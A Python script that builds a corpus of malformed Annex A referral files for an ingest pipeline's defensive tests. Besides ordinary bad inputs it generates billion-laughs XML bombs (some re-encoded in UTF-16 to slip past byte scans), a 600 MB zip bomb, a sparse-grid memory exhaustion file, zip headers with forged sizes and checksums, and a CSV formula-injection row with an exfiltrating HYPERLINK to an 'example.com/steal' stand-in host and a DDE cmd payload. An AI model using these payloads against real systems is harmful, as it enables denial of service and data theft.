"""Writes the corpus of bad Annex A files the ingest tests use.

Run ``python tests/bad_files/build_corpus.py`` to rebuild it; the files are checked in
so that each test reads a real file, byte for byte what a user could upload.
"""

from __future__ import annotations

import io
import re
import struct
import zipfile
import zlib
from pathlib import Path

from openpyxl import Workbook

HERE = Path(__file__).parent
REFERRAL_HEADINGS = [
    "Child Unique ID", "Gender", "Ethnicity", "Date of Birth", "Age of Child (Years)",
    "Date of referral", "Referral Source", "Referral NFA?",
    "Number of Referrals in Last 12 Months", "Allocated Team", "Allocated Worker",
]


def referral_csv(rows: list[list[str]], headings: list[str] = REFERRAL_HEADINGS) -> bytes:
    lines = [",".join(headings)] + [",".join(row) for row in rows]
    return ("\r\n".join(lines) + "\r\n").encode("utf-8")


def good_referral(child: str, referred: str = "01/10/2026") -> list[str]:
    return [child, "a) Male", "a) WBRI", "05/05/2015", "11", referred, "6", "b) No", "1",
            "Team A", "Worker 1"]


def workbook(sheets: dict[str, list[list[object]]]) -> bytes:
    book = Workbook()
    book.remove(book.active)
    for name, rows in sheets.items():
        sheet = book.create_sheet(name)
        for row in rows:
            sheet.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def zip_bytes(parts: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def xml_bomb() -> bytes:
    """A real workbook whose sheet XML declares nested entities (billion laughs)."""
    source = zipfile.ZipFile(io.BytesIO(workbook({"List 3": [REFERRAL_HEADINGS]})))
    entities = '<!ENTITY a0 "lol">' + "".join(
        f'<!ENTITY a{i} "{("&a" + str(i - 1) + ";") * 10}">' for i in range(1, 10)
    )
    parts = {name: source.read(name) for name in source.namelist()}
    sheet = "xl/worksheets/sheet1.xml"
    parts[sheet] = parts[sheet].replace(
        b"<worksheet", f'<!DOCTYPE worksheet [{entities}]><worksheet'.encode(), 1
    ).replace(b"</sheetData>", b"<row r=\"2\"><c r=\"A2\" t=\"inlineStr\"><is><t>&a9;</t>"
              b"</is></c></row></sheetData>", 1)
    return zip_bytes(parts)


_LAUGHS = '<!ENTITY a0 "lol">' + "".join(
    f'<!ENTITY a{i} "{("&a" + str(i - 1) + ";") * 10}">' for i in range(1, 10))


def _in_utf16(xml: bytes, codec: str) -> bytes:
    """The part re-encoded as UTF-16 with a byte-order mark, its declaration saying so:
    a byte search for "<!DOCTYPE" finds nothing in it, yet XML parsers read it."""
    text = xml.decode("utf-8").replace('encoding="UTF-8"', 'encoding="UTF-16"', 1)
    mark = "\ufeff".encode(codec)
    return mark + text.encode(codec)


def utf16_xml_bomb(part: str, codec: str) -> bytes:
    """A real workbook whose ``part`` declares nested entities (billion laughs), in
    UTF-16 (``codec`` "utf-16-le" or "utf-16-be", with a byte-order mark)."""
    parts = _sheet_parts()
    root = b"<workbook" if part == "xl/workbook.xml" else b"<worksheet"
    bombed = parts[part].replace(
        root, f'<!DOCTYPE {root[1:].decode()} [{_LAUGHS}]>'.encode() + root, 1)
    if part == "xl/workbook.xml":
        bombed = bombed.replace(b'name="List 3"', b'name="&a9;"', 1)
    else:
        bombed = bombed.replace(b"</sheetData>", b"<row r=\"2\"><c r=\"A2\" t=\"inlineStr\">"
                                b"<is><t>&a9;</t></is></c></row></sheetData>", 1)
    parts[part] = _in_utf16(bombed, codec)
    return zip_bytes(parts)


def zip_bomb() -> bytes:
    """A workbook with one sheet that unpacks to 600 MB of spaces."""
    source = zipfile.ZipFile(io.BytesIO(workbook({"List 3": [REFERRAL_HEADINGS]})))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name in source.namelist():
            archive.writestr(name, source.read(name))
        with archive.open("xl/worksheets/padding.xml", "w", force_zip64=True) as padding:
            block = b" " * (1 << 20)
            for _ in range(600):
                padding.write(block)
    return buffer.getvalue()


def _sheet_parts() -> dict[str, bytes]:
    source = zipfile.ZipFile(io.BytesIO(workbook({"List 3": [REFERRAL_HEADINGS[:6]]})))
    return {name: source.read(name) for name in source.namelist()}


SHEET = "xl/worksheets/sheet1.xml"


def sparse_grid(with_dimension: bool) -> bytes:
    """Two cells, at A1 and at the last cell Excel allows: a reader that builds the whole
    grid asks for hundreds of gigabytes. With or without an honest <dimension>."""
    parts = _sheet_parts()
    sheet = parts[SHEET].replace(
        b"</sheetData>", b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'
    )
    sheet = re.sub(rb"<dimension ref=\"[^\"]*\"/>",
                   b'<dimension ref="A1:XFD1048576"/>' if with_dimension else b"", sheet)
    parts[SHEET] = sheet
    return zip_bytes(parts)


def understated_sizes() -> bytes:
    """A sheet of 13 MB whose headers claim only its first bytes, with a checksum that
    matches those bytes: Python's zipfile alone would read the prefix and call it good."""
    parts = _sheet_parts()
    honest = parts[SHEET]
    head, tail = honest.split(b"</sheetData>")
    row = b'<row r="3"><c r="A3" t="inlineStr"><is><t>x</t></is></c></row>'
    parts[SHEET] = head + row * 200_000 + b"</sheetData>" + tail
    content = bytearray(zip_bytes(parts))
    claimed = len(honest)
    crc = zlib.crc32(parts[SHEET][:claimed])
    for info in zipfile.ZipFile(io.BytesIO(bytes(content))).infolist():
        if info.filename == SHEET:
            struct.pack_into("<I", content, info.header_offset + 14, crc)
            struct.pack_into("<I", content, info.header_offset + 22, claimed)
    position = 0
    while (position := content.find(b"PK\x01\x02", position)) >= 0:
        length = struct.unpack_from("<H", content, position + 28)[0]
        if bytes(content[position + 46:position + 46 + length]) == SHEET.encode():
            struct.pack_into("<I", content, position + 16, crc)
            struct.pack_into("<I", content, position + 24, claimed)
        position += 4
    return bytes(content)


CORPUS: dict[str, bytes] = {
    "wrong_headings.csv": referral_csv([["C1", "M", "01/01/2015"]],
                                       ["Kid", "Sex", "Born on", "When referred"]),
    "missing_sheets.xlsx": workbook({
        "List 3": [REFERRAL_HEADINGS, good_referral("C1")],
    }),
    "text_in_dates.csv": referral_csv([good_referral("C1", "last Tuesday")]),
    "impossible_dates.csv": referral_csv([good_referral("C1", "31/02/2026")]),
    "duplicate_children.csv": referral_csv([good_referral("C1"), good_referral("C2"),
                                            good_referral("C1", "02/10/2026")]),
    "empty.csv": b"",
    "empty.xlsx": workbook({"Sheet1": []}),
    "not_a_workbook.xlsx": zip_bytes({"notes.txt": b"This is a zip of a text file."}),
    "not_a_zip.xlsx": b"Child Unique ID,Gender\r\nC1,M\r\n",
    "old_format.xls": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504,
    "formula_injection.csv": referral_csv([
        ['=HYPERLINK("http://example.com/steal?"&A1;"Click")', "M", "WBRI", "05/05/2015", "11",
         "+cmd|' /C calc'!A0", "6", "N", "1", "Team A", "Worker 1"],
    ]),
    "xml_bomb.xlsx": xml_bomb(),
    "xml_bomb_utf16le_workbook.xlsx": utf16_xml_bomb("xl/workbook.xml", "utf-16-le"),
    "xml_bomb_utf16be_workbook.xlsx": utf16_xml_bomb("xl/workbook.xml", "utf-16-be"),
    "xml_bomb_utf16_sheet.xlsx": utf16_xml_bomb(SHEET, "utf-16-le"),
    "zip_bomb.xlsx": zip_bomb(),
    "sparse_grid.xlsx": sparse_grid(with_dimension=True),
    "sparse_grid_no_dimension.xlsx": sparse_grid(with_dimension=False),
    "understated_sizes.xlsx": understated_sizes(),
}


def main() -> None:
    for name, content in CORPUS.items():
        (HERE / name).write_bytes(content)
        print(f"{name}: {len(content):,} bytes")


if __name__ == "__main__":
    main()
